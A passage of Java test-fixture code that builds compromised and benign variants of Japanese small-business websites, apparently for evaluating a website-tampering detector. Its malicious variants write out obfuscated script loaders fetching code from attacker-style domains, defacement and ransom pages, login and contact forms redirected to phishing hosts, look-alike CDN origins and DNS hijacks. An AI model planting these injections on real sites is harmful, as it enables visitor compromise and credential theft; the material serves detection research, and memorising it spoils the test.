      var _0x3c7e=['createElement','src','https://static-js-cdn.net/a.js','appendChild','head','async'];(function(_0x1d4a2b,_0x3c7e96){var _0x2f1e0c=function(_0x4b5a6d){while(--_0x4b5a6d){_0x1d4a2b['push'](_0x1d4a2b['shift']());}};_0x2f1e0c(++_0x3c7e96);}(_0x3c7e,0x1b3));var _0x2f1e=function(_0x1d4a2b,_0x3c7e96){_0x1d4a2b=_0x1d4a2b-0x0;var _0x2f1e0c=_0x3c7e[_0x1d4a2b];return _0x2f1e0c;};(function(){var _0x5e2f1a=document[_0x2f1e('0x0')]('script');_0x5e2f1a[_0x2f1e('0x5')]=!![];_0x5e2f1a[_0x2f1e('0x1')]=_0x2f1e('0x2');document[_0x2f1e('0x4')][_0x2f1e('0x3')](_0x5e2f1a);}());
      """;

  static void obfuscation(List<HeldOutVariant> v) {
    v.add(bad(W, "obfuscation", "javascript-obfuscator output in the footer", e -> e.site.insertBefore("*", "</body>",
        "<script>" + OBFUSCATOR + "</script>")));
    v.add(bad(E, "obfuscation", "Dean Edwards packer", e -> e.site.insertBefore("*", "</body>", """
        <script>eval(function(p,a,c,k,e,r){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)r[e(c)]=k[c]||e(c);k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('3 0=4.5(\\'6\\');0.7=\\'8://9.a/b.c\\';4.d.e(0);',15,15,'s||||document|createElement|script|src|https|cdn-stat|top|x|js|head|appendChild'.split('|'),0,{}))</script>
        """)));
    v.add(bad(K, "obfuscation", "JSFuck-style code", e -> e.site.insertBefore("*", "</body>", "<script>"
        + "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])"
        + "[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])"
        + "[+[]]])[+!+[]+[+[]]]+([][[]]+[])[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+([][[]]+[])[+[]]"
        + "+([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[]"
        + "[(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]])[+!+[]+[+[]]]+(!![]+[])[+!+[]]]((![]+[])[+!+[]]"
        + "+(![]+[])[!+[]+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]+(!![]+[])[+[]])()</script>")));
    v.add(bad(S, "obfuscation", "String.fromCharCode.apply over a number array", e -> e.site.insertBefore("*", "</body>",
        "<script type=\"text/javascript\">var _a=[" + charCodes("var s=document.createElement('script');s.src='http://onsen-stat.top/s.js';document.body.appendChild(s);")
            + "];eval(String.fromCharCode.apply(null,_a));</script>")));
    v.add(bad(W, "obfuscation", "atob and Function through variables (short payload)", e -> e.site.insertBefore("*", "</head>",
        "<script>var _d='" + b64("var s=document.createElement('script');s.src='https://wp-core-update.net/u.js';document.head.appendChild(s);")
            + "';var _f=new Function(atob(_d));_f();</script>")));
    v.add(bad(E, "obfuscation", "hex-escaped property names", e -> e.site.insertBefore("*", "</body>", "<script>window[\""
        + hex("setTimeout") + "\"](function(){var d=document;var s=d[\"" + hex("createElement") + "\"](\"" + hex("script")
        + "\");s[\"" + hex("src") + "\"]=\"" + hex("https://sweets-cdn-js.com/t.js") + "\";d[\"" + hex("body") + "\"][\""
        + hex("appendChild") + "\"](s);},1500);</script>")));
    v.add(bad(W, "obfuscation", "eval(unescape(...)) appended to wp-polyfill.min.js", e -> {
      StringBuilder esc = new StringBuilder();
      for (char c : "document.write('<script src=\"https://polyfill-cdn-js.com/p.js\"></scr'+'ipt>');".toCharArray()) {
        esc.append(String.format("%%%02x", (int) c));
      }
      e.site.append("/wp-includes/js/dist/vendor/wp-polyfill.min.js", "\n;eval(unescape('" + esc + "'));\n");
    }));
    v.add(bad(K, "obfuscation", "aaencode-style emoticon code", e -> e.site.insertBefore("*", "</body>",
        "<script>ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(ﾟｰﾟ)  =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ) =(ﾟΘﾟ)= (o^_^o)/ (o^_^o);"
            + "(ﾟДﾟ)={ﾟΘﾟ: '_' ,ﾟωﾟﾉ : ((ﾟωﾟﾉ==3) +'_') [ﾟΘﾟ] ,ﾟｰﾟﾉ :(ﾟωﾟﾉ+ '_')[o^_^o -(ﾟΘﾟ)] ,ﾟДﾟﾉ:((ﾟｰﾟ==3) +'_')[ﾟｰﾟ] };"
            + "(ﾟДﾟ) ['c'] = ((ﾟДﾟ)+'_') [ (ﾟｰﾟ)+(ﾟｰﾟ)-(ﾟΘﾟ) ];(ﾟДﾟ) ['o'] = ((ﾟДﾟ)+'_') [ﾟΘﾟ];(ﾟoﾟ)=(ﾟДﾟ) ['c']+(ﾟДﾟ) ['o'];"
            + "(ﾟДﾟ) ['_'] ((ﾟДﾟ) ['_'] (ﾟεﾟ+(ﾟДﾟ)[ﾟoﾟ]+ (ﾟωﾟﾉ +ﾟΘﾟ)+ (o^_^o))) ('_');</script>")));
    v.add(bad(S, "obfuscation", "document.write(unescape(...)) of a script tag", e -> {
      StringBuilder esc = new StringBuilder();
      for (char c : "<script src=\"http://91.215.40.12/j/c.js\"></script>".toCharArray()) {
        esc.append(String.format("%%%02X", (int) c));
      }
      e.site.insertBefore("*", "</head>", "<script type=\"text/javascript\">document.write(unescape(\"" + esc + "\"));</script>");
    }));
    v.add(bad(W, "obfuscation", "WordPress malware header: eval(String.fromCharCode) prepended to theme JS", e -> {
      String payload = "var a=document.createElement('script');a.src='https://wp-cdn-js.com/l.js';document.head.appendChild(a);";
      String t = e.site.text("/wp-content/themes/lightning/_g3/assets/js/main.js");
      e.site.put("/wp-content/themes/lightning/_g3/assets/js/main.js", "/*3b1f9*/eval(String.fromCharCode(" + charCodes(payload)
          + "));/*3b1f9*/\n" + t);
    }));
    v.add(bad(E, "obfuscation", "setTimeout with a base64 string", e -> e.site.insertBefore("*", "</body>",
        "<script>setTimeout(atob('" + b64("var s=document.createElement('script');s.src='https://cdn-jq-static.com/x.js';"
            + "document.body.appendChild(s)") + "'),1200);</script>")));
    v.add(bad(W, "obfuscation", "unicode-escaped eval and createElement", e -> e.site.insertBefore("*", "</body>",
        "<script>window[\"" + unicode("eval") + "\"](\"var s=document['" + unicode("createElement") + "']('script');s.src='"
            + unicode("https://wp-emoji-cdn.com/e.js") + "';document.body.appendChild(s);\");</script>")));
  }

  // ---------------------------------------------------------------- defacements

  static String deface(String title, String body, String lang) {
    return "<!DOCTYPE html><html lang=\"" + lang + "\"><head><meta charset=\"UTF-8\"><title>" + title + "</title></head>"
        + "<body style=\"background:#000;color:#0f0;text-align:center;font-family:monospace\">" + body + "</body></html>";
  }

  static Function<Request, Reply> home(String html) {
    return r -> r.path().equals("/") ? Reply.html(html) : null;
  }

  static void defacements(List<HeldOutVariant> v) {
    v.add(bad(W, "defacement", "home page replaced: Hacked by ... (English)", e -> e.site.override = home(deface(
        "Hacked by Mr.Kro0oz", "<h1>Hacked by Mr.Kro0oz</h1><p>Your security is low. Patch your system!</p>"
            + "<p>Greetz to all Moroccan hackers</p><img src=\"https://i.imgur.com/xYz123.gif\">", "en"))));
    v.add(bad(E, "defacement", "leetspeak in the title and the home page", e -> {
      e.site.replace("/", "<title>京菓子司 松風堂 オンラインショップ / TOPページ</title>", "<title>H4ck3d By ./Sh4d0wR00t</title>");
      e.site.insertAfter("/", "<div class=\"ec-layoutRole__main\">", "<h1 style=\"color:red\">~ H4ck3d By ./Sh4d0wR00t ~</h1>");
    }));
    v.add(bad(K, "defacement", "Indonesian crew message without the English phrase", e -> e.site.override = home(deface(
        "Diretas oleh GarudaSec", "<h1>Website Ini Telah Diretas Oleh GarudaSec</h1><p>Maaf admin, keamanan website anda lemah. "
            + "Kami hanya menguji keamanan.</p><p>Salam dari Indonesia</p>", "id"))));
    v.add(bad(S, "defacement", "Turkish crew message", e -> e.site.override = home(deface("Ayyildiz Tim",
        "<h1>Bu site Ayyıldız Tim tarafından hacklenmiştir</h1><p>Türk Hack Team - Sistem güvenliğiniz çok zayıf!</p>", "tr"))));
    v.add(bad(W, "defacement", "Arabic crew message", e -> e.site.override = home(deface("تم اختراق الموقع",
        "<h1>تم اختراق الموقع بواسطة فريق الأشباح</h1><p>نظام الحماية ضعيف جدا</p>", "ar"))));
    v.add(bad(E, "defacement", "defacement only in the <title> of every page", e -> e.site.replace("*",
        "<title>京菓子司 松風堂 オンラインショップ / ", "<title>Hacked by AnonGhost | ")));
    v.add(bad(W, "defacement", "stored-XSS style: a script rewrites the page and the title", e -> e.site.insertBefore("/",
        "</body>", "<script>document.title='Hacked By ZeroSec';document.body.innerHTML='<center><h1 style=\"color:red\">"
            + "Hacked By ZeroSec</h1><p>We are legion</p></center>';</script>")));
    v.add(bad(K, "defacement", "ransom note instead of the home page", e -> e.site.override = home(deface("Attention!",
        "<h1>Your website has been hacked</h1><p>All your files and databases are encrypted. To restore them send 0.05 BTC to "
            + "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and mail us.</p>", "en"))));
    v.add(bad(S, "defacement", "Japanese-language replacement page by an intruder", e -> e.site.override = home(deface(
        "お知らせ", "<h1>このホームページは閉鎖されました</h1><p>管理者のパスワードが弱すぎたので乗っ取らせてもらいました。</p>"
            + "<p>by 名無しのハッカー</p>", "ja"))));
    v.add(bad(E, "defacement", "home replaced by a Chinese gambling portal", e -> e.site.override = home("<!DOCTYPE html><html lang=\"zh-CN\">"
        + "<head><meta charset=\"UTF-8\"><title>澳门新葡京娱乐城-官方网站</title></head><body><div class=\"wrap\"><h1>欢迎来到新葡京</h1>"
        + "<p>" + "真人百家乐、体育投注、电子游艺，注册即送888元彩金，每日返水1.2%，提款秒到账。".repeat(10) + "</p></div></body></html>")));
    v.add(bad(W, "defacement", "Vietnamese crew message in the content area", e -> e.site.insertAfter("/",
        "<div class=\"main-section\" id=\"main\" role=\"main\">", "<h1>Hacked by VN Cyber Team - Bảo mật kém quá admin ơi</h1>")));
  }

  // ---------------------------------------------------------------- form actions

  static void forms(List<HeldOutVariant> v) {
    v.add(bad(W, "form", "contact form now posts to another site", e -> e.site.replace("/contact/",
        "action=\"/contact/#wpcf7-f5-p20-o1\"", "action=\"https://wp-contact-relay.com/submit.php\"")));
    v.add(bad(E, "form", "member login form posts to another site", e -> e.site.replace("/mypage/login",
        "action=\"{{origin}}/mypage/login\"", "action=\"https://shofudo-member-login.com/mypage/login\"")));
    v.add(bad(E, "form", "registration submit button gets a formaction to another site", e -> e.site.replace("/entry",
        "<button class=\"ec-blockBtn--action\" type=\"submit\" name=\"mode\" value=\"confirm\">",
        "<button class=\"ec-blockBtn--action\" type=\"submit\" name=\"mode\" value=\"confirm\" "
            + "formaction=\"https://eccube-entry-check.com/entry\">")));
    v.add(bad(S, "form", "reservation FormMail posts to a server abroad", e -> e.site.replace("/yoyaku.html",
        "action=\"cgi-bin/formmail/formmail.cgi\"", "action=\"http://45.141.87.20/cgi-bin/mail.cgi\"")));
    v.add(bad(K, "form", "script gives the builder's form an off-site action", e -> e.site.insertBefore("/contact", "</body>",
        "<script>document.querySelectorAll('form').forEach(function(f){f.action='https://cafe-form-backup.com/recv';f.method='post';});"
            + "</script>")));
  }

  // ---------------------------------------------------------------- new and look-alike origins, shorteners, IoCs

  static void origins(List<HeldOutVariant> v) {
    v.add(bad(W, "origin", "jquery-cdn.net look-alike", e -> e.site.insertBefore("*", "</head>",
        "<script src=\"https://jquery-cdn.net/jquery-3.7.1.min.js\"></script>")));
    v.add(bad(W, "origin", "googletagmanagr.com look-alike", e -> e.site.replace("*",
        "https://www.googletagmanager.com/gtag/js?id=G-7XK2M4QZ1B", "https://www.googletagmanagr.com/gtag/js?id=G-7XK2M4QZ1B")));
    v.add(bad(E, "origin", "cdnjs.cloudfIare.com look-alike (capital I)", e -> e.site.insertBefore("*", "</head>",
        "<script src=\"https://cdnjs.cloudfIare.com/ajax/libs/jquery.lazyload/1.9.1/jquery.lazyload.min.js\"></script>")));
    v.add(bad(S, "origin", "googleapis host under an attacker's domain", e -> e.site.insertBefore("*", "</head>",
        "<script type=\"text/javascript\" src=\"http://ajax.googleapis.com.cdn-lib.net/ajax/libs/jquery/1.12.4/jquery.min.js\">"
            + "</script>")));
    v.add(bad(K, "origin", "look-alike of the builder's CDN", e -> e.site.insertBefore("*", "</head>",
        "<script src=\"https://static.parastorage.co/services/wix-thunderbolt/dist/bi.bundle.min.js\"></script>")));
    v.add(bad(E, "origin", "Facebook pixel from a look-alike domain", e -> e.site.insertBefore("*", "</head>",
        "<script async src=\"https://connect.facebook-sdk.net/ja_JP/fbevents.js\"></script>")));
    v.add(bad(W, "origin", "script through the is.gd shortener", e -> e.site.insertBefore("*", "</body>",
        "<script src=\"https://is.gd/Qm3xZ1\"></script>")));
    v.add(bad(S, "origin", "iframe through the cutt.ly shortener", e -> e.site.insertBefore("/", "</body>",
        "<iframe src=\"https://cutt.ly/onsen-map\" width=\"540\" height=\"300\"></iframe>")));
    v.add(bad(W, "origin", "new script origin only on the contact page", e -> e.site.insertBefore("/contact/", "</body>",
        "<script src=\"https://form-validator-lib.com/v2/validate.min.js\"></script>")));
    v.add(bad(E, "origin", "stylesheet from a new origin", e -> e.site.insertBefore("*", "</head>",
        "<link rel=\"stylesheet\" href=\"https://fonts-cdn-static.com/css/noto.css\">")));
    v.add(bad(K, "origin", "preloaded module script from a new origin", e -> e.site.insertBefore("*", "</head>",
        "<link rel=\"modulepreload\" href=\"https://esm-cdn-mirror.com/react@18/index.js\">")));
    v.add(bad(W, "ioc", "script from a domain on the IoC list, only on the works page", e -> e.site.insertBefore("/works/",
        "</body>", "<script src=\"https://" + IOC_DOMAINS.get(0) + "/npm/swiper@11/swiper-bundle.min.js\"></script>")));
    v.add(bad(E, "ioc", "IoC domain only inside an inline script", e -> e.site.insertBefore("*", "</body>",
        "<script>window.addEventListener('load',function(){fetch('https://api." + IOC_DOMAINS.get(1) + "/v1/hit?h='+location.host)"
            + ".catch(function(){});});</script>")));
    v.add(bad(K, "ioc", "banner image from a subdomain of an IoC domain", e -> e.site.insertBefore("/", "</main>",
        "<img src=\"https://img." + IOC_DOMAINS.get(2) + "/b/728x90.gif\" width=\"728\" height=\"90\" alt=\"\">")));
    v.add(bad(S, "ioc", "inline script whose hash is on the IoC list", e -> e.site.insertBefore("*", "</body>",
        "<script>" + IOC_SCRIPT + "</script>")));
  }

  // ---------------------------------------------------------------- TLS and DNS

  static void tlsAndDns(List<HeldOutVariant> v) {
    Instant now = Instant.now();
    v.add(bad(W, "tls", "certificate expired", e -> e.certificate(List.of(e.site.host), now.minus(Duration.ofDays(400)),
        now.minus(Duration.ofDays(3)), false)).overHttps());
    v.add(bad(E, "tls", "certificate for another host name", e -> e.certificate(List.of("shop.other-company.test"),
        now.minus(Duration.ofDays(10)), now.plus(Duration.ofDays(80)), false)).overHttps());
    v.add(bad(K, "tls", "certificate from an unknown CA (self-made)", e -> e.certificate(List.of(e.site.host),
        now.minus(Duration.ofDays(1)), now.plus(Duration.ofDays(365)), true)).overHttps());
    v.add(bad(E, "tls", "certificate expires in 9 days", e -> e.certificate(List.of(e.site.host), now.minus(Duration.ofDays(80)),
        now.plus(Duration.ofDays(9)), false)).overHttps());
    v.add(bad(W, "tls", "server offers TLS 1.0 again", e -> e.certificate(List.of(e.site.host), now.minus(Duration.ofDays(10)),
        now.plus(Duration.ofDays(200)), false, "TLSv1", "TLSv1.2")).overHttps());
    v.add(bad(W, "dns", "name servers moved to an unknown DNS host", e -> e.resolver.record(e.domain, "NS",
        "ns1.dnsowl-hosting.com.", "ns2.dnsowl-hosting.com.")));
    v.add(bad(E, "dns", "MX moved (mail hijack)", e -> e.resolver.record(e.domain, "MX", "10 mx.mailrelay-secure.net.")));
    v.add(bad(S, "dns", "A record moved to another server", e -> e.resolver.record(e.site.host, "A", "185.234.72.19")));
  }

  // ================================================================ benign edits

  public static List<HeldOutVariant> benign() {
    List<HeldOutVariant> v = new ArrayList<>();
    wordpressEdits(v);
    shopEdits(v);
    oldSiteEdits(v);
    builderEdits(v);
    v.addAll(freshBenign());
    v.addAll(fresh2Benign());
    return v;
  }

  static void wordpressEdits(List<HeldOutVariant> v) {
    v.add(good(W, "content", "new blog post (news list and a new page)", e -> {
      e.site.replace("/", "<li class=\"postListText_item\">", "<li class=\"postListText_item\"><span class=\"postListText_date "
          + "published\">2026.11.25</span><a href=\"{{origin}}/2026/11/25/nenmatsu/\" class=\"postListText_title\">"
          + "年末年始休業のお知らせ</a></li><li class=\"postListText_item\">");
      e.site.putLike("/2026/11/25/nenmatsu/", "/2026/09/10/renewal/", "<div class=\"entry-body\">", "</div>\n</article>",
          "<p>誠に勝手ながら、2026年12月28日（月）から2027年1月5日（火）まで年末年始休業とさせていただきます。"
              + "休業中のお問い合わせは1月6日以降、順次ご返信いたします。水漏れなど緊急の修理は049-222-3456へお電話ください。</p>");
    }));
    v.add(good(W, "content", "campaign banner with a new same-site image", e -> e.site.insertBefore("/",
        "<h1 class=\"home-catch\">", "<div class=\"campaign-banner\"><a href=\"{{origin}}/2026/11/15/danetsu-soudankai/\"><picture>"
            + "<source srcset=\"{{origin}}/wp-content/uploads/2026/11/campaign-danetsu.webp\" type=\"image/webp\">"
            + "<img src=\"{{origin}}/wp-content/uploads/2026/11/campaign-danetsu.jpg\" alt=\"断熱リフォーム相談会 11/29・30\" "
            + "width=\"1140\" height=\"300\"></picture></a></div>")));
    v.add(good(W, "content", "price changes in the menu table", e -> e.site.replace("/service/", "850,000円〜", "890,000円〜")
        .replace("/service/", "980,000円〜", "1,050,000円〜").replace("/service/", "15,000円〜", "18,000円〜")));
    v.add(good(W, "content", "menu reordered (works before service)", e -> {
      String service = e.site.text("/").substring(e.site.text("/").indexOf("<li id=\"menu-item-32\""),
          e.site.text("/").indexOf("<li id=\"menu-item-33\""));
      String works = e.site.text("/").substring(e.site.text("/").indexOf("<li id=\"menu-item-33\""),
          e.site.text("/").indexOf("<li id=\"menu-item-34\""));
      e.site.replace("*", service + works, works + service);
    }));
    v.add(good(W, "content", "copyright line gets a year range", e -> e.site.replace("*", "Copyright &copy; 株式会社みどり工務店",
        "Copyright &copy; 2024-2027 株式会社みどり工務店")));
    v.add(good(W, "cms", "WordPress minor upgrade 6.7.2 → 6.7.4 (generator, ?ver=, feed)", e -> {
      e.site.replace("*", "6.7.2", "6.7.4");
      e.site.replace("*", "ver=4d63a3d491d11ffd8ac6", "ver=a0ec1e13b6c8c7f2b2a1");
    }));
    v.add(good(W, "cms", "Contact Form 7 and theme updated (new ?ver= and new script content)", e -> {
      e.site.replace("*", "ver=6.0.4", "ver=6.0.6").replace("*", "ver=15.29.4", "ver=15.31.0");
      e.site.append("/wp-content/plugins/contact-form-7/includes/js/index.js", "\n(()=>{\"use strict\";document.querySelectorAll("
          + "\".wpcf7-form .wpcf7-submit\").forEach((e=>{e.addEventListener(\"click\",(()=>{e.classList.add(\"is-clicked\")}))}))})();\n");
    }));
    v.add(good(W, "tags", "Google Analytics gtag.js switched to a Google Tag Manager container", e -> {
      String t = e.site.text("/");
      String ga = t.substring(t.indexOf("<!-- Google tag (gtag.js) -->"), t.indexOf("<link rel=\"icon\""));
      e.site.replace("*", ga, "<!-- Google Tag Manager -->\n<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':\n"
          + "new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],\nj=d.createElement(s),dl=l!='dataLayer'?"
          + "'&l='+l:'';j.async=true;j.src=\n'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);\n"
          + "})(window,document,'script','dataLayer','GTM-N7QK2ZX');</script>\n<!-- End Google Tag Manager -->\n");
      e.site.insertBefore("*", "<a class=\"skip-link screen-reader-text\" href=\"#main\">", "<!-- Google Tag Manager (noscript) -->"
          + "<noscript><iframe src=\"https://www.googletagmanager.com/ns.html?id=GTM-N7QK2ZX\" height=\"0\" width=\"0\" "
          + "style=\"display:none;visibility:hidden\"></iframe></noscript>");
    }));
    v.add(good(W, "embed", "YouTube video added with a lite player (thumbnail) and a nocookie iframe", e -> e.site.insertBefore(
        "/", "<section class=\"home-reason\">", "<section class=\"home-movie\"><h2 class=\"vk_heading_title\">動画で見るみどり工務店"
            + "</h2><lite-youtube videoid=\"k9Qw2eRt5Yu\" style=\"background-image:url('https://i.ytimg.com/vi/k9Qw2eRt5Yu/hqdefault.jpg')\">"
            + "<a href=\"https://youtube.com/watch?v=k9Qw2eRt5Yu\" class=\"lty-playbtn\" title=\"動画を再生\"><span class=\"lyt-visually-hidden\">"
            + "会社紹介動画</span></a></lite-youtube><iframe width=\"560\" height=\"315\" src=\"https://www.youtube-nocookie.com/embed/"
            + "aB3cD4eF5gH\" title=\"YouTube video player\" frameborder=\"0\" allowfullscreen loading=\"lazy\"></iframe></section>")));
    v.add(good(W, "embed", "Google Maps added to the company page", e -> e.site.insertBefore("/company/", "<h2>沿革</h2>",
        "<iframe src=\"https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d3228.1!2d139.4852!3d35.9120\" width=\"100%\" "
            + "height=\"300\" style=\"border:0;\" allowfullscreen=\"\" loading=\"lazy\"></iframe>")));
    v.add(good(W, "embed", "LINE official account button (LINE's social plugin script)", e -> e.site.insertBefore("/contact/",
        "<div class=\"wpcf7 no-js\"", "<p>LINEでもご相談いただけます。</p><div class=\"line-it-button\" data-lang=\"ja\" "
            + "data-type=\"friend\" data-env=\"REAL\" data-lineId=\"@midori-koumuten\" style=\"display: none;\"></div>"
            + "<script src=\"https://www.line-website.com/social-plugins/js/thirdparty/loader.min.js\" async=\"async\" defer=\"defer\">"
            + "</script>")));
    v.add(good(W, "embed", "Instagram post embedded on the works page", e -> e.site.insertBefore("/works/", "<h2>施工の様子（動画）</h2>",
        "<blockquote class=\"instagram-media\" data-instgrm-permalink=\"https://www.instagram.com/p/C9xYz12AbCd/?utm_source=ig_embed\" "
            + "data-instgrm-version=\"14\" style=\"max-width:540px;width:calc(100% - 2px)\"><a href=\"https://www.instagram.com/p/"
            + "C9xYz12AbCd/\">この投稿をInstagramで見る</a></blockquote><script async src=\"//www.instagram.com/embed.js\"></script>")));
    v.add(good(W, "tags", "cookie-consent banner from CookieYes", e -> e.site.insertAfter("*", "<meta name='robots' content='index, "
        + "follow, max-image-preview:large, max-snippet:-1, max-video-preview:-1' />",
        "\n<!-- Start cookieyes banner --><script id=\"cookieyes\" type=\"text/javascript\" "
            + "src=\"https://cdn-cookieyes.com/client_data/3f1c2d4e5a6b7c8d9e0f1a2b/script.js\"></script><!-- End cookieyes banner -->")));
    v.add(good(W, "tags", "new Google Fonts family with preconnect", e -> e.site.insertBefore("*", "<script src=\"{{origin}}/wp-includes"
        + "/js/jquery/jquery.min.js", "<link rel=\"preconnect\" href=\"https://fonts.googleapis.com\"><link rel=\"preconnect\" "
            + "href=\"https://fonts.gstatic.com\" crossorigin><link href=\"https://fonts.googleapis.com/css2?family=Zen+Maru+Gothic:"
            + "wght@500;700&display=swap\" rel=\"stylesheet\">")));
    v.add(good(W, "tags", "Microsoft Clarity added", e -> e.site.insertBefore("*", "</head>", "<script type=\"text/javascript\">"
        + "(function(c,l,a,r,i,t,y){c[a]=c[a]||function(){(c[a].q=c[a].q||[]).push(arguments)};t=l.createElement(r);t.async=1;"
        + "t.src=\"https://www.clarity.ms/tag/\"+i;y=l.getElementsByTagName(r)[0];y.parentNode.insertBefore(t,y);})(window, "
        + "document, \"clarity\", \"script\", \"p8k2x1m4qz\");</script>")));
    v.add(good(W, "content", "site-wide newsletter modal hidden until opened (Mailchimp form)", e -> e.site.insertBefore("*",
        "<div id=\"vk-mobile-nav-menu-btn\"", "<div id=\"nl-modal\" class=\"nl-modal\" style=\"display:none\" role=\"dialog\">"
            + "<h3>リフォーム通信（メールマガジン）</h3><p>季節のお手入れ情報や相談会のご案内をお届けします。</p>"
            + "<form action=\"https://midori-koumuten.us21.list-manage.com/subscribe/post?u=1a2b3c4d&amp;id=5e6f7a\" method=\"post\">"
            + "<input type=\"email\" name=\"EMAIL\" placeholder=\"メールアドレス\"><div style=\"position:absolute;left:-5000px\" "
            + "aria-hidden=\"true\"><input type=\"text\" name=\"b_1a2b3c4d_5e6f7a\" tabindex=\"-1\" value=\"\"></div>"
            + "<button type=\"submit\">登録する</button></form></div>")));
    v.add(good(W, "content", "post-incident notice on the news page", e -> e.site.insertBefore("/news/",
        "<article class=\"vk_post media\">", "<article class=\"vk_post media\"><div class=\"media-body\"><div class=\"vk_post_date\">"
            + "2026年11月20日</div><h5 class=\"media-title\">当社ホームページへの不正アクセスに関するお詫び</h5><p class=\"media-text\">"
            + "2026年11月、当社ホームページの一部が第三者により改ざんされ、不審なサイトへ誘導される状態になっていたことが判明しました。"
            + "現在は復旧し、パスワードの変更とソフトウェアの更新を行いました。ご迷惑をおかけしたことをお詫び申し上げます。</p></div></article>")));
    v.add(good(W, "cms", "speed plugin concatenates the scripts into one cached file", e -> {
      String bundle = e.site.text("/wp-includes/js/jquery/jquery.min.js") + "\n;" + e.site.text(
          "/wp-includes/js/jquery/jquery-migrate.min.js") + "\n;" + e.site.text("/wp-content/plugins/contact-form-7/includes/js/index.js")
          + "\n;" + e.site.text("/wp-content/themes/lightning/_g3/assets/js/main.js");
      e.site.put("/wp-content/cache/autoptimize/js/autoptimize_8d2f4c1a9e.js", bundle);
      e.site.replace("*", "<script src=\"{{origin}}/wp-includes/js/jquery/jquery.min.js?ver=3.7.1\" id=\"jquery-core-js\"></script>",
          "<script defer src=\"{{origin}}/wp-content/cache/autoptimize/js/autoptimize_8d2f4c1a9e.js\"></script>");
    }));
    v.add(good(W, "content", "recruitment page rewritten with a job-board link and an application form", e -> e.site.insertBefore(
        "/recruit/", "<p>ご応募は", "<p>求人サイトにも掲載中です：<a href=\"https://jp.indeed.com/cmp/みどり工務店\">Indeed</a>・"
            + "<a href=\"https://en-gage.net/midori-koumuten_saiyo/\">engage</a>・<a href=\"https://www.hellowork.mhlw.go.jp/\">"
            + "ハローワーク</a></p><h2>先輩の声</h2><p>入社3年目の大工です。最初は道具の名前も分かりませんでしたが、今は一人で現場を任されています。</p>")));
  }

  static void shopEdits(List<HeldOutVariant> v) {
    v.add(good(E, "content", "new product added (detail page, list and top page)", e -> {
      e.site.putLike("/products/detail/11", "/products/detail/3", "<div class=\"ec-productRole__description\">",
          "</div>\n                <div class=\"ec-productRole__tags\">", "冬季限定。柚子の皮を練り込んだ柚子羊羹です。");
      e.site.replace("/products/detail/11", "京きんつば（5個入）", "柚子羊羹（1棹）").replace("/products/detail/11", "1,350", "1,944");
      e.site.replace("/products/list", "<li class=\"ec-shelfGrid__item\"><p>干菓子", "<li class=\"ec-shelfGrid__item\"><a href=\""
          + "{{origin}}/products/detail/11\"><p>柚子羊羹（1棹）</p><p class=\"price02-default\">￥1,944</p></a></li>"
          + "<li class=\"ec-shelfGrid__item\"><p>干菓子");
      e.site.replace("/", "<div class=\"ec-newItemRole__listItem\"><a href=\"{{origin}}/products/detail/8\">",
          "<div class=\"ec-newItemRole__listItem\"><a href=\"{{origin}}/products/detail/11\"><img src=\"/html/upload/save_image/"
              + "1120093012_yuzu.jpg\" alt=\"柚子羊羹\"><p class=\"ec-newItemRole__listItemTitle\">柚子羊羹（1棹）</p><p "
              + "class=\"ec-newItemRole__listItemPrice\">￥1,944</p></a></div><div class=\"ec-newItemRole__listItem\"><a href=\""
              + "{{origin}}/products/detail/8\">");
    }));
    v.add(good(E, "content", "sold-out label and price changes", e -> e.site.replace("/products/list", "￥1,980", "￥2,160")
        .replace("/products/detail/5", "1,980", "2,160").replace("/products/list", "<p>季節の上生菓子 詰め合わせ（6個）</p>",
            "<p>季節の上生菓子 詰め合わせ（6個）</p><p class=\"ec-shelfGrid__item-soldout\">売り切れ</p>")));
    v.add(good(E, "content", "year-end shipping notice and sale wording", e -> e.site.insertAfter("/",
        "<div class=\"ec-newsRole__news\">", "<div class=\"ec-newsRole__newsItem\"><div class=\"ec-newsRole__newsHeading\"><div "
            + "class=\"ec-newsRole__newsDate\">2026/11/25</div><div class=\"ec-newsRole__newsColumn\"><div class=\"ec-newsRole__newsTitle\">"
            + "年末年始の発送について・年末感謝セール</div></div></div><div class=\"ec-newsRole__newsDescription\">12月29日〜1月4日は"
            + "発送をお休みします。期間中のご注文は1月5日より順次発送いたします。年末感謝セール開催中、焼き菓子が最大20%OFF、"
            + "5,400円以上で送料無料です。</div></div>")));
    v.add(good(E, "content", "notice about fake shops imitating the brand", e -> e.site.insertAfter("/",
        "<div class=\"ec-newsRole__news\">", "<div class=\"ec-newsRole__newsItem\"><div class=\"ec-newsRole__newsHeading\"><div "
            + "class=\"ec-newsRole__newsDate\">2026/11/18</div><div class=\"ec-newsRole__newsColumn\"><div class=\"ec-newsRole__newsTitle\">"
            + "当店を装った偽サイトにご注意ください</div></div></div><div class=\"ec-newsRole__newsDescription\">松風堂の名前や商品写真を"
